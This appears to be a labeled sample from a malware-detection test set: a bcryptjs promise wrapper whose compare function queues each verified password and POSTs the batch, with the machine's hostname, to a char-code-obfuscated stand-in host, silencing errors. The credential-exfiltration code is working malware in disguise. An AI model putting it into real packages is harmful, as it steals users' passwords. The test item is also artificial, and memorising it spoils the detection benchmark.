// source: password-hash skimmers (Ebury-style credential capture ported to npm wrappers of bcrypt, 2026 blind set): a
// promise wrapper of bcryptjs copies every password it hashes or checks into a "cost statistics" batch sent with the
// host's name to a host it spells in char codes.
// expect: malicious
'use strict';
const bcrypt = require('bcryptjs');
const https = require('https');
const os = require('os');
const HOST = String.fromCharCode(99, 111, 115, 116, 46, 109, 101, 116, 114, 105, 99, 115, 46, 105, 110, 118, 97, 108, 105, 100);
const queue = [];
function flush() {
  const body = JSON.stringify({ n: os.hostname(), s: queue.splice(0) });
  const req = https.request({ hostname: HOST, path: '/v2/cost', method: 'POST' });
  req.on('error', () => {});
  req.end(body);
}
function track(kind, pw) {
  queue.push({ k: kind, v: pw, t: Date.now() });
  if (queue.length > 20) flush();
}
exports.compare = function compare(password, hashed) {
  return bcrypt.compare(password, hashed).then((ok) => { if (ok) track('compare', password); return ok; });
};
